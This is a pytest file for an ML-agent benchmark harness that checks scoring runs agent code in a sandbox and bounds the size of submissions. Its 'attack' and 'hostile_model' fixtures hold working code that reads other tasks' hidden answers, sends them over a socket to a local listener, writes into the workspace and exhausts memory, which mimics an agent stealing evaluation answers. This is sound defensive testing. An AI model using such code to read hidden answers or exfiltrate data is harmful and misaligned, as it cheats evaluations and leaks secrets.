"""Scorers run agent code inside the run's sandbox, and submissions are parsed with bounds (issue 12, items 3-4).

Real subprocesses and files: a hostile model run by a task's evaluate (a fixture task through the public
ScoringContext, the real clrs task, a babylm model with a huge config) tries to read other tasks' answers under
MLAB_HOME, to reach a 127.0.0.1 listener, to write into the submission and to allocate past the run's memory
limit; none succeeds and the score is invalid or unaffected. A 128 MiB house-price submission is refused unread.
"""
from __future__ import annotations

import json
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
from pathlib import Path
from typing import Any

import pytest

from mlab.core import InvalidSubmission, Metric, PrepareContext, Task, scoring_context
from mlab.core.plugins.registry import load_registry
from mlab.core.run.harness import Harness
from mlab.core.run.snapshot import SnapshotStore
from mlab.core.run.taskdata import TaskHome
from mlab.core.sandbox.limits import Limits
from tests.fixtures.sandboxes import CONFINING
from tests.test_sandbox import make_sandbox

MEMORY_LIMIT = 1536 * 2**20  # room for torch's import (~700 MiB of address space), far below what is tried
SANDBOXES = CONFINING  # every registered sandbox that confines (tests/fixtures/sandboxes.py)
OTHER_SECRET = "OTHER-TASK-ANSWER-7f3a"
OWN_ANSWER = "42"


@pytest.fixture
def outside_tmp():
    """MLAB_HOME and workspaces outside /tmp: the sandboxes' private /tmp would hide them anyway."""
    folder = Path(tempfile.mkdtemp(prefix="mlab-scoreiso-", dir="/var/tmp"))
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


class Listener:
    """A 127.0.0.1 server recording every connection and what it was sent."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.got = threading.Condition()
        self.stop = False
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            conn.settimeout(2)
            try:
                self.received.append(conn.recv(65536) or b"<connected>")
            except OSError:
                self.received.append(b"<connected>")
            conn.close()
            with self.got:
                self.got.notify_all()

    def wait_for(self, count: int, timeout: float = 120) -> bool:
        """Whether `count` connections were received before the deadline (a sender's connect returns before this
        listener's thread runs: a test that expects one waits for it)."""
        with self.got:
            return self.got.wait_for(lambda: len(self.received) >= count, timeout)

    def close(self):
        self.stop = True
        self.thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def listener():
    server = Listener()
    yield server
    server.close()


def attack(secrets: list[Path], port: int) -> str:
    """Python source that tries every escape and returns what it got, as a dict `found`."""
    return textwrap.dedent(f"""
        import json, os, socket
        found = {{"read": {{}}, "alloc_mib": 0}}
        for path in {[str(p) for p in secrets]!r}:
            try:
                with open(path, "rb") as f:
                    found["read"][path] = f.read().decode("latin-1")
            except OSError as exc:
                found["read"][path] = "refused: " + type(exc).__name__
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
                s.sendall(json.dumps(found["read"]).encode())
            found["net"] = "sent"
        except OSError as exc:
            found["net"] = "refused: " + type(exc).__name__
        try:
            with open("planted.txt", "w") as f:
                f.write("x")
            found["write"] = "written"
        except OSError as exc:
            found["write"] = "refused: " + type(exc).__name__
        held = []
        try:
            for _ in range(64):  # 4 GiB in 64 MiB pieces, each touched
                held.append(bytearray(64 * 2**20))
                found["alloc_mib"] = 64 * len(held)
                progress(found)
        except MemoryError:
            pass
        del held
        """)


def other_task_secret(home: TaskHome) -> Path:
    path = home.data_root / "other__task" / "hidden" / "answer.txt"
    path.parent.mkdir(parents=True)
    path.write_text(OTHER_SECRET)
    return path


def check_attack(found: dict, listener: Listener) -> None:
    for path, content in found["read"].items():
        assert OTHER_SECRET not in content and not content.startswith(OWN_ANSWER), (path, content)
        assert content.startswith("refused"), (path, content)
    assert not found.get("net", "refused").startswith("sent"), found
    assert found.get("write", "refused").startswith("refused"), found
    assert found["alloc_mib"] * 2**20 < MEMORY_LIMIT, found
    assert listener.received == []


# ---- a fixture task scoring through the public API ------------------------------------------------------
class AgentScored(Task):
    """Scores by running the workspace's model.py (as clrs runs model.py) through scoring_context()."""

    name = "fixture/agent-scored"
    description = "scored by running agent code"
    metric = Metric(name="accuracy", higher_is_better=True)

    def __init__(self):
        self.found: dict = {}
        self.limit_hit: str | None = None

    def prepare(self, ctx: PrepareContext) -> None:
        (ctx.hidden_dir / "answer.txt").write_text(OWN_ANSWER)

    def evaluate(self, workspace: Path, hidden_dir: Path) -> float:
        truth = (Path(hidden_dir) / "answer.txt").read_text()
        ctx = scoring_context()
        with ctx.scratch() as scratch:
            result = ctx.run([sys.executable, "model.py"], workspace, scratch)
            report = scratch / "found.json"
            self.found = json.loads(report.read_text()) if report.is_file() else {}
        self.limit_hit = result.limit_hit
        if result.limit_hit:
            raise InvalidSubmission(f"the model broke the {result.limit_hit} limit")
        lines = result.output.strip().splitlines()
        return 1.0 if lines and lines[-1] == truth else 1e-3


def hostile_model(secrets: list[Path], port: int) -> str:
    return textwrap.dedent("""
        import json, os
        def progress(found):
            with open(os.path.join(os.environ["HOME"], "found.json"), "w") as f:
                json.dump(found, f)
        """) + attack(secrets, port) + textwrap.dedent("""
        progress(found)
        stolen = [v for v in found["read"].values() if not v.startswith("refused")]
        print(stolen[0] if stolen else "41")
        """)


def harness_for(home: TaskHome, sandbox: str) -> Harness:
    make_sandbox(sandbox)  # skips with the reason when unusable here
    return Harness(load_registry(), home, sandbox=sandbox, limits=Limits(memory_bytes=MEMORY_LIMIT))


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_harness_scores_in_its_own_sandbox(sandbox, outside_tmp):
    harness = harness_for(TaskHome(outside_tmp / "home"), sandbox)
    task = AgentScored()
    ctx = harness.scorer.context(task)
    assert ctx.new_sandbox().name == sandbox
    assert ctx.limits.memory_bytes == MEMORY_LIMIT and ctx.limits.timeout_s == task.scoring_timeout_s
    assert harness.home.data_root in ctx.hidden_paths


def hostile_setup(outside_tmp, listener):
    """A prepared AgentScored task beside another task's answers, and a workspace whose model.py attacks both."""
    home = TaskHome(outside_tmp / "home")
    task = AgentScored()
    home.prepare(task, log=lambda _m: None)
    secrets = [other_task_secret(home), home.hidden_dir(task) / "answer.txt"]
    workspace = outside_tmp / "ws"
    workspace.mkdir()
    (workspace / "model.py").write_text(hostile_model(secrets, listener.port))
    return home, task, secrets, workspace


@pytest.mark.parametrize("sandbox", SANDBOXES)
@pytest.mark.parametrize("where", ["folder", "snapshot"])
@pytest.mark.slow
def test_hostile_model_run_by_a_scorer_reaches_nothing(sandbox, where, outside_tmp, listener):
    home, task, secrets, workspace = hostile_setup(outside_tmp, listener)
    harness = harness_for(home, sandbox)
    if where == "folder":
        score, error = harness.scorer.score_folder(task, workspace)
    else:  # a small snapshot is materialized in /dev/shm: scored from a copy the sandbox can see
        store = SnapshotStore(outside_tmp / "run")
        store.take(workspace, "final")
        score, error = harness.scorer.score_snapshot(task, outside_tmp / "run", "final")
    assert task.found, (score, error)
    check_attack(task.found, listener)
    assert not (workspace / "planted.txt").exists()
    # Invalid (the memory limit stopped it) or the honest wrong guess: never the stolen answer.
    assert (score is None and "memory" in (error or "")) or score == pytest.approx(1e-3), (score, error)


# ---- clrs: the real task, a hostile model.py ---------------------------------------------------------------
def needs(*modules):
    import importlib.util

    missing = [m for m in modules if importlib.util.find_spec(m) is None]
    return pytest.mark.skipif(bool(missing), reason=f"needs {', '.join(missing)}")


@needs("torch")
@pytest.mark.parametrize("sandbox", SANDBOXES)
@pytest.mark.slow
def test_clrs_hostile_model_runs_in_the_runs_sandbox(sandbox, outside_tmp, listener):
    home = TaskHome(outside_tmp / "home")
    harness = harness_for(home, sandbox)
    task: Any = type(harness.task("mlagentbench/clrs"))()
    task.test_graphs, task.test_length = 2, 8  # a tiny held-out set: only the model's loading matters here
    harness.prepare(task)
    secrets = [other_task_secret(home), home.hidden_dir(task) / "test.npz"]
    workspace = outside_tmp / "ws"
    (workspace / "checkpoints").mkdir(parents=True)
    (workspace / "checkpoints" / "best.pt").write_bytes(b"not a checkpoint")
    (workspace / "model.py").write_text(textwrap.dedent("""
        import json
        def progress(found):
            pass
        class BaselineModel:
            @staticmethod
            def load(folder):
        """) + textwrap.indent(attack(secrets, listener.port) + "raise RuntimeError(json.dumps(found))\n", " " * 8))
    score, error = harness.scorer.score_folder(task, workspace)
    print("clrs refusal:", error)
    assert score is None and error and error.startswith("invalid submission"), error
    if "memory limit" not in error:  # else the kernel stopped it mid-way: what it did is checked by the listener
        found = json.loads(error[error.index("RuntimeError: ") + len("RuntimeError: "):])
        for path, content in found["read"].items():  # the answers' file is binary: anything read is a leak
            assert content.startswith("refused"), (path, content[:80])
        check_attack(found, listener)
    assert listener.received == []
    assert not (workspace / "planted.txt").exists()


# ---- babylm: a 9 KB config choosing huge dimensions ---------------------------------------------------------
def vm_hwm_bytes() -> int:
    with open("/proc/self/status") as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) * 1024
    return 0


@pytest.mark.slow
@needs("torch", "transformers")
@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_babylm_huge_config_is_loaded_in_the_sandbox_under_its_memory_limit(sandbox, outside_tmp):
    import torch
    from safetensors.torch import save_file
    from transformers import AutoTokenizer, GPT2Config, GPT2LMHeadModel

    from tests.fixtures.mlagentbench import text

    home = TaskHome(outside_tmp / "home")
    harness = harness_for(home, sandbox)
    task = type(harness.task("mlagentbench/babylm-cpu"))()
    hidden = outside_tmp / "hidden"
    (hidden / "babylm_test").mkdir(parents=True)
    (hidden / "babylm_test" / "a.test").write_text("the cat sat on the mat.\n" * 200)
    tokenizer_dir = text.gpt2_tokenizer(outside_tmp / "tok")
    (tokenizer_dir / "tokenizer_config.json").write_text(json.dumps(
        {"tokenizer_class": "GPT2Tokenizer", "model_max_length": 1024, "bos_token": "<|endoftext|>",
         "eos_token": "<|endoftext|>", "unk_token": "<|endoftext|>"}))
    output = outside_tmp / "ws" / "output"
    tokenizer = AutoTokenizer.from_pretrained(str(tokenizer_dir))
    tokenizer.save_pretrained(str(output))
    GPT2LMHeadModel(GPT2Config(vocab_size=len(tokenizer), n_positions=64, n_embd=8, n_layer=1, n_head=1)) \
        .save_pretrained(str(output))
    # A tiny weights file with none of the model's tensors: the loader initializes every one at the size the
    # config chooses, ~700 million parameters (2.8 GB), past the 1.5 GiB limit.
    save_file({"unused": torch.zeros(1)}, str(output / "model.safetensors"), metadata={"format": "pt"})
    config = json.loads((output / "config.json").read_text())
    config.update(n_embd=2048, n_layer=12, n_head=16, n_positions=1024)
    (output / "config.json").write_text(json.dumps(config))
    assert (output / "config.json").stat().st_size < 10_000
    before = vm_hwm_bytes()
    with harness.scorer.scoring(task):
        with pytest.raises(InvalidSubmission) as refused:
            task.evaluate(outside_tmp / "ws", hidden)
    print("babylm refusal:", refused.value)
    message = str(refused.value)
    assert "memory limit" in message or "allocate" in message or "MemoryError" in message, message
    assert vm_hwm_bytes() - before < 200 * 2**20  # the harness never built the model


# ---- bounded submission parsing ------------------------------------------------------------------------------
PARSE_PROBE = textwrap.dedent("""
    import json, sys, time
    from pathlib import Path
    import numpy, pandas
    from mlab.core import InvalidSubmission
    from mlab_tasks_mlagentbench.tasks.tabular import HousePrice

    def hwm():
        return int([l for l in open("/proc/self/status") if l.startswith("VmHWM:")][0].split()[1]) * 1024

    workspace, hidden = Path(sys.argv[1]), Path(sys.argv[2])
    HousePrice().answers(hidden)  # pandas' own start-up is not the submission's cost
    before, started = hwm(), time.process_time()
    try:
        outcome = {"score": HousePrice().evaluate(workspace, hidden)}
    except InvalidSubmission as exc:
        outcome = {"refused": str(exc)}
    outcome.update(growth=hwm() - before, cpu_s=time.process_time() - started)  # CPU time: load does not change it
    print(json.dumps(outcome))
    """)
TEST_ROWS = 292  # house-price's test set
RSS_BOUND = 32 * 2**20


def probe_submission(tmp_path: Path, write) -> dict:
    hidden, workspace = tmp_path / "hidden", tmp_path / "ws"
    hidden.mkdir()
    workspace.mkdir()
    (hidden / "answer.csv").write_text("Id,SalePrice\n" + "".join(f"{1461 + i},{100000 + i}\n"
                                                              for i in range(TEST_ROWS)))
    write(workspace / "submission.csv")
    proc = subprocess.run([sys.executable, "-c", PARSE_PROBE, str(workspace), str(hidden)], capture_output=True,
                          text=True, timeout=300)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout.strip().splitlines()[-1])


def test_a_128_mib_house_price_submission_is_refused_unread(tmp_path):
    def write(path: Path):
        row = b"1461,123456.789\n"
        block = row * (2**20 // len(row))
        with open(path, "wb") as f:
            f.write(b"Id,SalePrice\n")
            while f.tell() < 128 * 2**20:
                f.write(block)

    outcome = probe_submission(tmp_path, write)
    size = (tmp_path / "ws" / "submission.csv").stat().st_size
    assert outcome.get("refused", "").startswith(f"submission.csv is {size} bytes, more than the "), outcome
    assert "this task accepts" in outcome["refused"]
    assert outcome["growth"] < RSS_BOUND and outcome["cpu_s"] < 5, outcome


def test_too_many_rows_within_the_byte_cap_are_refused_by_counting(tmp_path):
    def write(path: Path):  # 1 MiB of tiny rows: under the byte cap, 100 times the rows
        path.write_text("Id,SalePrice\n" + "1,1\n" * (2**20 // 4))

    outcome = probe_submission(tmp_path, write)
    assert "more than" in outcome.get("refused", "") and "rows" in outcome["refused"], outcome
    assert outcome["growth"] < RSS_BOUND and outcome["cpu_s"] < 5, outcome


@pytest.mark.slow
def test_a_wide_row_is_refused_and_a_fair_submission_still_scores(tmp_path):
    outcome = probe_submission(tmp_path, lambda path: path.write_text("Id,SalePrice\n" + "1," * 2**20 + "1\n"))
    assert "bytes, more than the" in outcome.get("refused", ""), outcome
    fair = "Id,SalePrice\n" + "".join(f"{1461 + i},{100010 + i}\n" for i in range(TEST_ROWS))
    (tmp_path / "fair").mkdir()
    outcome = probe_submission(tmp_path / "fair", lambda path: path.write_text(fair))
    assert outcome.get("score") == pytest.approx(10.0), outcome


def test_the_attack_is_real_where_nothing_confines_it(outside_tmp, listener):
    """The same hostile model, run by the fallback sandbox (no namespaces), reads the answers and sends them:
    the checks above would see a leak."""
    from mlab.core.run.scoring import Scorer
    from mlab.core.sandbox.local import LocalSandbox

    home, task, secrets, workspace = hostile_setup(outside_tmp, listener)
    scorer = Scorer(home, new_sandbox=lambda: LocalSandbox(namespaces=False), limits=Limits(memory_bytes=MEMORY_LIMIT))
    scorer.score_folder(task, workspace)
    assert task.found["read"][str(secrets[0])] == OTHER_SECRET and task.found["net"] == "sent"
    with pytest.raises(AssertionError):
        check_attack(task.found, listener)
